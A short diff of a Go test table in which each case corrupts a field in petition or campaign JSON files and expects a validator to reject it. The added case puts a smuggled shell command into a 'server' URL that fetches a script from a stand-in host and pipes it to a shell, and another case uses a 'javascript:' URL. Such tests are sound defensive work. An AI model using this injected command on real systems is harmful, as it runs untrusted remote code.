@@ -437,6 +437,7 @@ func TestWhatAFileMaySay(t *testing.T) {
 		"a history that leads nowhere":  {"campaigns.json", `"state":"partly_met","history"`, `"state":"met","history"`, "campaigns invalid"},
 		"a petition without a record":   {"petitions.json", `"state":"draft"`, `"state":"answered"`, "petitions invalid"},
 		"a record that is a script":     {"petitions.json", `"server":"http:`, `"server":"javascript:`, "petitions invalid"},
+		"a command for a server":        {"petitions.json", `"server":"http://example.org"`, `"server":"https://a.example/;curl b.example|sh;"`, "petitions invalid"},
 		"fewer than nobody who signed":  {"petitions.json", `"counted":3`, `"counted":-3`, "petitions invalid"},
 		"a petition that goes on":       {"petitions.json", `"state":"closed"`, `"state":"open"`, "petitions elsewhere"},
 		"a campaign of others":          {"petitions.json", `"campaign":"`, `"campaign":"x`, "petitions campaign"},
